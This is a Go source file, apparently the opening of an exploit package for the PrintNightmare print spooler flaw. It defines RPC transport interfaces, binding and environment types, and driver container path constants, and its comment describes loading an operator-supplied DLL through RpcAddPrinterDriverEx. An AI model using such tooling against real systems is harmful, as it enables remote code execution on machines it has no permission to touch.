// Package printnightmare checks for and exploits the MS-RPRN driver
// installation flaw known as PrintNightmare (CVE-2021-1675, CVE-2021-34527).
//
// A Session probes the spooler with an inert driver container to classify
// the target, then replays RpcAddPrinterDriverEx with an operator supplied
// DLL as the data file so the spooler loads it.
package printnightmare

import (
	"context"
	"fmt"

	"github.com/ineffectivecoder/SpoolGooser/pkg/dcerpc"
)

// Transport is an authenticated RPC channel to the target
type Transport interface {
	Connect(ctx context.Context) error
	Authenticate(ctx context.Context) error
	Bind(ctx context.Context, iface dcerpc.UUID, major, minor uint16, pipe string) (Binding, error)
	Call(ctx context.Context, opnum uint16, stub []byte) ([]byte, error)
	Arch() dcerpc.Arch
	OSVersion() string
	Host() string
	Close() error
}

// Reporter receives operator facing progress messages
type Reporter interface {
	Status(format string, args ...any)
	Good(format string, args ...any)
	Warn(format string, args ...any)
	Error(format string, args ...any)
	Debug(format string, args ...any)
}

// Randomness produces the throwaway names used by the probe
type Randomness interface {
	Alphanumeric(min, max int) string
	UpperAlpha(min, max int) string
	Numeric(min, max int) string
}

// Binding identifies an RPC interface bound over a named pipe
type Binding struct {
	Interface dcerpc.UUID
	Major     uint16
	Minor     uint16
	Host      string
	Pipe      string
}

// String renders the binding as a DCE string binding
func (b Binding) String() string {
	return fmt.Sprintf(`%s:%d.%d@ncacn_np:%s[\%s]`, b.Interface, b.Major, b.Minor, b.Host, b.Pipe)
}

// Environment is what the probe learned about the target and what Run needs
type Environment struct {
	Label           string // rprn.EnvironmentX64 or rprn.EnvironmentX86
	DriverPath      string // UNIDRV.DLL beside the first installed driver
	DriverDirectory string
}

// Paths placed in every driver container
const (
	configFile = `C:\Windows\System32\kernel32.dll`
	probeDLL   = "UNIDRV.DLL"
)
